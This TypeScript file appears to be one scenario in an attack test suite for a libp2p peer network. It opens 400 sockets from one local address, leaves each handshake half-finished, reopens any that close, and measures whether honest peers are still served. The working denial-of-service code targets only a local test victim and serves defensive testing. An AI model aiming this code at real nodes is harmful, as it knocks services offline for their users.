import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

import { multiaddr } from '@multiformats/multiaddr'
import { concat } from 'uint8arrays/concat'

import { Call, request } from '../../peers/caller-stream.ts'
import { ScriptedEngine } from '../../scripted-engine/engine.ts'
import type { Attack } from '../attack.ts'
import { Victim } from '../floods/children.ts'
import { framed } from '../kad.ts'
import { AttackedNetwork } from '../network.ts'

/** More handshakes than a node of a LAN has in progress. */
const SOCKETS = 400
const HONEST = { short: 2, full: 10 }
/** Not the address of the honest peers: libp2p limits the connections per second of each address. */
const ATTACKER = '127.0.1.1'
/** Between two attempts of a socket, milliseconds. */
const PAUSE_MS = 1_000
const line = (text: string): Uint8Array => framed(new TextEncoder().encode(`${text}\n`))
/** Where the attacker stops: at once, in the negotiation, or after the length of the first message of Noise. */
const BEGINNINGS: readonly Uint8Array[] = [
  new Uint8Array(),
  line('/multistream/1.0.0'),
  concat([line('/multistream/1.0.0'), line('/noise'), Uint8Array.of(0xff, 0xff)])
]
const engine = new ScriptedEngine()

export const attack: Attack = {
  title: 'begins handshakes with a node and never ends them, and begins another for each that the node ends',
  cost: '1 address, 400 sockets, a few bytes',
  before: 'a node in a LAN refused the connections of all other peers',

  async run({ short, note, signal }) {
    await using network = new AttackedNetwork()
    await using victim = new Victim('node')
    const [address = ''] = await victim.ready
    const attacker = new Attacker(Number(/\/tcp\/(\d+)/u.exec(address)?.[1]))
    let [held, answered] = [0, 0]
    const count = short ? HONEST.short : HONEST.full
    try {
      while (attacker.begun < SOCKETS) await sleep(20, undefined, { signal })
      for (let honest = 0; honest < count; honest++) {
        signal.throwIfAborted()
        held = Math.max(held, attacker.open)
        const peer = await network.peer({ addresses: { listen: [] } })
        const ask = async (): Promise<void> => {
          const call = await Call.open(await peer.dial(multiaddr(address)), request(engine, { maxTokens: 4 }))
          if ((await call.last())?.type === 'done') answered++
        }
        await ask().catch((error: unknown) => note(`an honest peer failed: ${String(error)}`))
      }
    } finally {
      await attacker.stop()
    }
    note(`the attacker had ${held} sockets open at once, and began ${attacker.begun} handshakes`)
    return [
      { metric: 'sockets of the attacker that were open at once', value: held, limit: { atLeast: 100 } },
      { metric: 'honest requests answered, %', value: (100 * answered) / count, limit: { atLeast: 100 } }
    ]
  }
}

class Attacker {
  begun = 0
  open = 0
  readonly #port: number
  readonly #stop = new AbortController()
  readonly #sockets: Array<Promise<void>>

  constructor(port: number) {
    this.#port = port
    this.#sockets = Array.from({ length: SOCKETS }, async (_, index) => await this.#hold(index))
  }

  async stop(): Promise<void> {
    this.#stop.abort()
    await Promise.all(this.#sockets)
  }

  /** Keeps one handshake half open. */
  async #hold(index: number): Promise<void> {
    const { signal } = this.#stop
    while (!signal.aborted) {
      const socket = connect({ port: this.#port, host: '127.0.0.1', localAddress: ATTACKER })
      socket.on('error', () => undefined)
      // Otherwise the end of the socket is not noticed.
      socket.resume()
      const closed = Promise.withResolvers<void>()
      socket.once('close', () => closed.resolve())
      const end = (): void => void socket.destroy()
      signal.addEventListener('abort', end, { once: true })
      socket.once('connect', () => {
        this.begun++
        this.open++
        socket.write(BEGINNINGS[index % BEGINNINGS.length]!)
        socket.once('close', () => this.open--)
      })
      await closed.promise
      signal.removeEventListener('abort', end)
      await sleep(PAUSE_MS, undefined, { signal }).catch(() => undefined)
    }
  }
}
